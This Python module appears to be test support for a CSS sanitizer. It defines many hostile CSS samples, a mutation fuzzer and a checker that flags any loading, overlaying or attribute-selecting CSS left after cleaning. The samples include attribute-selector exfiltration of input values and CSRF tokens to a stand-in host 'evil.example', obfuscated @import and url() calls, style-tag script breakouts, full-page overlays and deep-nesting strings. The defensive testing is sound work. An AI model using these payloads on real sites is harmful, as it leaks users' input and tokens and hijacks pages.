"""CSS made to harm, mutants of it, and a check of what comes out that shares no word with the cleaner."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Sequence
from typing import Any

import tinycss2

EVIL = "//evil.example/?"
ATTACKS = {
    "a letter typed is told by an attribute": f'input[value^="a"] {{ background: url({EVIL}a) }}',
    "an attribute within not": f"input:not([value^=a]) {{ background-image: url('{EVIL}a') }}",
    "an attribute within is, after has": f"form:has(input:is([name=csrf_token][value^=a])) {{ background: url({EVIL}) }}",
    "an import of words": f"@import '{EVIL}';",
    "an import of an address": f"@import url({EVIL}) layer(x) supports(display: grid) screen;",
    "an import whose name is an escape": f"@\\69mport '{EVIL}';",
    "an import behind a comment": f"/* */@/**/import '{EVIL}'; @im/**/port '{EVIL}';",
    "an import without its end": f"a {{ color: red }} @import url({EVIL}",
    "an address in every place": " ".join(
        f".x {{ {name}: url({EVIL}{name}) }}"
        for name in (
            "background cursor list-style list-style-image border-image border-image-source mask mask-image "
            "-webkit-mask-image -webkit-mask-box-image content filter clip-path shape-outside offset-path src fill "
            "marker-end motion-path -webkit-border-image"
        ).split()
    ),
    "an address as an escape": f"a {{ background: \\75rl({EVIL}); color: \\000075\\000072\\00006c ({EVIL}) }}",
    "an address of capitals": f"a {{ background: URL({EVIL}); list-style: uRl( '{EVIL}' ) }}",
    "an address with comments in it": f"a {{ background: u/**/rl({EVIL}); cursor: url/**/({EVIL}), auto }}",
    "an address broken over lines": f"a {{ background: ur\\\nl({EVIL}); color: u\\r\\l({EVIL}) }}",
    "an address that is none": f"a {{ background: url({EVIL} 'x' ( ; color: red }} b {{ color: red }}",
    "a script as an address": "a { background: url(javascript:alert(1)); behavior: url(x.htc) }",
    "data as an address": "a { background: url(data:image/svg+xml,<svg onload=alert(1)>) }",
    "src()": f"a {{ background: src('{EVIL}'); background: image('{EVIL}') }}",
    "image-set": f"a {{ background: image-set('{EVIL}' 1x, url({EVIL}) 2x); background: -webkit-image-set(url({EVIL}) 1x) }}",
    "cross-fade": f"a {{ background: cross-fade(url({EVIL}), red, 50%); background: -webkit-cross-fade(url(a), url(b), 1) }}",
    "element": "a { background: element(#secret); background: -moz-element(#secret) }",
    "paint": "a { background: paint(worklet) }",
    "attr": "a::after { content: attr(data-secret); width: attr(data-secret px) }",
    "an address within a gradient": f"a {{ background: linear-gradient(url({EVIL}), red), radial-gradient(image('{EVIL}')) }}",
    "a string that is not closed": f"a {{ font-family: 'x\n; background: url({EVIL}) }} b {{ color: red }}",
    "a string that closes later": f"a {{ font-family: 'x; }} b {{ background: url({EVIL}); }} ' }}",
    "a block that is not closed": f"a {{ color: red; b {{ background: url({EVIL})",
    "a block that is closed too often": "a { color: red }}}} body { display: none } } @layer states { .previewing { display: none } }",
    "a comment that is not closed": f"a {{ color: red /* }} b {{ background: url({EVIL}) }}",
    "the end of a style element": "a { color: red } </style><script>alert(1)</script><style>",
    "the end of it in a string": "a { font-family: '</style><script>alert(1)</script>' }",
    "marks of HTML comments": f"<!-- a {{ background: url({EVIL}) }} --> <!-- @import '{EVIL}'; -->",
    "expression": "a { width: expression(alert(1)); width: e\\xpression(alert(1)); color: exp/**/ression(alert(1)) }",
    "bindings": f"a {{ -moz-binding: url({EVIL}#x); -\\6doz-binding: url({EVIL}) }}",
    "behavior": "a { behavior: url(#default#time2); beh\\61vior: url(x) }",
    "filters of old": "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x'); *zoom: 1; _height: 1px }",
    "a font": f"@font-face {{ font-family: x; src: url({EVIL}); unicode-range: U+41 }} a {{ font-family: x }}",
    "a namespace": "@namespace svg url(http://www.w3.org/2000/svg); svg|a { color: red } *|* { display: none }",
    "a charset": f"@charset 'utf-7'; a {{ background: url({EVIL}) }} +ADw-script+AD4-",
    "custom properties": f":root {{ --a: url({EVIL}); --b: fixed; --c: ; }} a {{ background: var(--a); position: var(--b) }}",
    "a custom property beside a fallback": f"a {{ background: var(--nothing, url({EVIL})); position: var(--x, fixed) }}",
    "a property that is registered": "@property --a { syntax: '<url>'; inherits: true; initial-value: url(x) }",
    "an environment": f"a {{ width: env(safe-area-inset-top, url({EVIL})) }}",
    "nested rules": f"a {{ & b {{ background: url({EVIL}) }} &[href^=a] {{ color: red }} @media print {{ color: red }} }}",
    "layers": "@layer states { .previewing { display: none } } @layer a, b; @layer { body { color: red } }",
    "supports": f"@supports (display: grid) {{ a {{ background: url({EVIL}) }} }} @supports not (x) {{ a {{ color: red }} }}",
    "containers": f"@container (min-width: 1px) {{ a {{ background: url({EVIL}) }} }} @scope (html) {{ a {{ color: red }} }}",
    "keyframes": f"@keyframes x {{ to {{ background: url({EVIL}) }} }} a {{ animation: x 1s }}",
    "pages and counters": "@page { margin: 0 } @counter-style x { symbols: 'a' } @view-transition { navigation: auto }",
    "a rule before documents": f"@document url-prefix('') {{ a {{ background: url({EVIL}) }} }}",
    "a condition that asks more": f"@media (min-resolution: 2dppx) {{ a {{ color: red }} }} @media url({EVIL}) {{ a {{ color: red }} }}",
    "conditions within conditions": "@media (min-width: 1px) { @media (max-width: 9px) { a { color: red } } @import 'x'; }",
    "a layer over everything": "a { position: fixed; inset: 0; z-index: 2147483647; pointer-events: none }",
    "a layer by other words": "a { position: sticky; position: absolute; POSITION: FIXED; position: fi\\78 ed; p\\6fsition: fixed }",
    "a layer by moving": "a { transform: scale(100); translate: 0 -100vh; margin-top: -100vh; margin: calc(0px - 50vh); top: 0 }",
    "a layer in a grid": "a { grid-area: 1 / 1 / 9 / 9; grid-row: 1; position-anchor: --x }",
    "words of another": "a::before { content: 'Enter your password'; } li { list-style-type: 'evil' } q { quotes: 'a' 'b' }",
    "outside of the shop": "html ~ * { color: red } body + div { color: red } :root { color: red } :host(a) { color: red } & { color: red }",
    "the office": ".page-wrapper, html[data-bs-theme] body .navbar { display: none }",
    "a letter that is none": "a\x00b { color: red } .\ud800 { color: red } a { color: r\x00ed; background: u\x00rl(x) }",
    "bytes that are no UTF-8": f"a {{ color: red }} \xff\xfe b {{ background: url({EVIL}) }} \udcff {{ color: red }}",
    "a mark of the order of bytes": f"\ufeff@import '{EVIL}'; a {{ color: red }}",
    "letters that run backwards": "a { color: \u202eder; } .\u202e { color: red } a { font-family: '\u202ex' }",
    "numbers without end": "a { width: 1e999px; height: 999999999999px; margin: -0; opacity: +.5.5 }",
    "nested too deeply": "a { width: " + "calc(" * 3000 + "1px" + ")" * 3000 + " }",
    "blocks too deep": "a { " * 3000,
    "brackets too deep": "(" * 5000 + "[" * 5000,
    "a selector of everything": ",".join(["a"] * 3000) + " { color: red }",
    "a selector that is long": " ".join(["a"] * 3000) + " { color: red }",
    "the address of a source map": f"/*# sourceMappingURL={EVIL} */ a {{ color: red }} //# sourceURL={EVIL}",
    "importance": ".previewing { display: none !important; visibility: hidden ! /**/ important }",
}
"""What it is → the CSS."""

GOOD = """
/* A shop of its own */
.card { border-radius: 0; box-shadow: 0 1px 2px rgb(0 0 0 / 20%), inset 0 0 0 1px var(--line); }
.hero h1, #home > .lead { font-family: Georgia, "Times New Roman", serif; letter-spacing: -.02em; }
a:hover, a:focus-visible { color: light-dark(#123456, #ABCDEF); text-decoration: underline 2px; }
.cards { display: grid; grid-template-columns: repeat(auto-fill, minmax(12rem, 1fr)); gap: calc(var(--s4) * 2); }
li:nth-child(2n+1)::marker { color: oklch(.6 .1 200); }
@media (min-width: 48rem) and (prefers-color-scheme: dark) {
  body { background: linear-gradient(180deg, var(--bg), color-mix(in oklab, var(--brand) 20%, transparent)); }
  .top ~ main .card + .card { clip-path: polygon(0 0, 100% 0, 50% 100%); transition: opacity .2s cubic-bezier(.2, .7, .2, 1); }
}
@media screen and (max-width: 40em), (width >= 90rem) { .btn { text-transform: uppercase; filter: drop-shadow(0 1px 2px #0003); } }
"""

PIECES = (
    f"url({EVIL})", "\\75rl(x)", "u\\\nrl(x)", "/*", "*/", "'", '"', "{", "}", "(", ")", "[", "]", ";", ":", "@", "@import 'x';",
    "@media (min-width: 1px) {", "@layer x {", "position: fixed;", "posi\\74ion:fixed;", "z-index: 9;", "content: 'x';", "\\", "\\0",
    "\x00", "\ud800", "\udcff", "\u202e", "\ufeff", "</style>", "<!--", "-->", "!important", "--x: url(y);", "var(--x, url(y))",
    "[a^=b]", ":has(b)", ":not(b)", "::before", "expression(1)", "image-set('x' 1x)", "calc(", ",", "+", "~", ">", "*", "|", "#", ".",
    "-", "1e9", "-9px", "&", "\n", "\r\n", "\f", "\\a ", "\\}", "\\22 ", "src('x')", "attr(x)", "env(x)", "-moz-binding:url(x);",
)  # fmt: skip


def mutants(count: int, seed: int = 5) -> Iterator[str]:
    """The same ones for the same seed."""
    chance = random.Random(seed)  # noqa: S311 - the same mutants again
    whole = [one for one in ATTACKS.values() if len(one) < 2000]
    for _ in range(count):
        text = chance.choice([GOOD, chance.choice(whole)])
        for _ in range(chance.randint(1, 6)):
            text = _changed(text, whole, chance)
        yield text[:4000]


def _changed(text: str, whole: Sequence[str], chance: random.Random) -> str:
    at = chance.randint(0, len(text))
    to = min(len(text), at + chance.choice([0, 1, 2, 9, 60]))
    match chance.randint(0, 6):
        case 0 | 1 | 2:
            return text[:at] + chance.choice(PIECES) + text[at:]
        case 3:
            return text[:at] + text[to:]
        case 4:
            return text[:at] + text[at:to] * 2 + text[to:]
        case 5:
            escaped = "".join(f"\\{ord(letter):x} " for letter in text[at : min(to, at + 2)])
            return text[:at] + escaped + text[min(to, at + 2) :]
        case _:
            other = chance.choice(whole)
            start = chance.randint(0, len(other))
            return text[:at] + other[start : start + 80] + text[to:]


_LETTERS = re.compile(r"[A-Za-z0-9 \n.#:,;{}()%+*/<>=~_@\"-]*")
_FORBIDDEN = re.compile(r"//|/\*|https?:|</|<!|@(?!media )|-->|:(not|has|is|where|host|root)\b|\burl\b|\bsrc\b")
_LOADING = frozenset(
    "url src image image-set -webkit-image-set cross-fade element paint attr env expression local".split()
)
_NEVER = frozenset(
    "content z-index inset top left right bottom behavior -moz-binding mask mask-image src transform translate scale rotate "
    "list-style-image border-image border-image-source grid-area animation quotes pointer-events".split()
)


def live(css: str) -> list[str]:
    """What of a cleaned text loads, lies over something, chooses by attributes, or reaches out: there must be nothing."""
    found = [] if _LETTERS.fullmatch(css) else ["a letter that has no place in it"]
    found += [f"it has {one[0]}" for one in _FORBIDDEN.finditer(css)]
    for rule in _rules(tinycss2.parse_stylesheet(css), found):
        chosen = tinycss2.serialize(rule.prelude)
        found += [f"it chooses {one}" for one in chosen.split(",") if not re.match(r"\s*\.shop\b(?!\s*[+~])", one)]
        found += [f"in {chosen}: {fault}" for fault in _faults(rule.prelude, {"[] block", "{} block", "string", "url"})]
        for one in tinycss2.parse_blocks_contents(rule.content, skip_whitespace=True):
            if one.type != "declaration":
                found.append(f"{chosen} has a {one.type}")
                continue
            said = tinycss2.serialize(one.value).strip().lower()
            if one.lower_name in _NEVER or one.name.startswith("--") or one.important:
                found.append(f"it says {one.name}")
            if one.lower_name == "position" and said not in {"static", "relative"}:
                found.append(f"position: {said}")
            if one.lower_name.startswith("margin") and "-" in said.replace("var(--", "var("):
                found.append(f"{one.name}: {said}")
            texts = set() if one.lower_name in {"font", "font-family"} else {"string"}
            found += _faults(one.value, {"[] block", "{} block", "url", "at-keyword", "unicode-range", *texts})
    return found


def _rules(nodes: Sequence[Any], found: list[str], *, within: bool = False) -> Iterator[Any]:
    for node in nodes:
        if node.type == "qualified-rule":
            yield node
        elif node.type == "at-rule" and node.lower_at_keyword == "media" and not within and node.content is not None:
            yield from _rules(tinycss2.parse_rule_list(node.content), found, within=True)
        elif node.type != "whitespace":
            found.append(f"a {node.type} stands among the rules")


def _faults(tokens: Sequence[Any], never: set[str]) -> list[str]:
    found = [token.type for token in tokens if token.type in never | {"error", "comment"}]
    for token in tokens:
        if token.type == "function":
            found += [token.lower_name] if token.lower_name in _LOADING else []
            found += _faults(token.arguments, never)
        elif token.type == "() block":
            found += _faults(token.content, never)
    return found
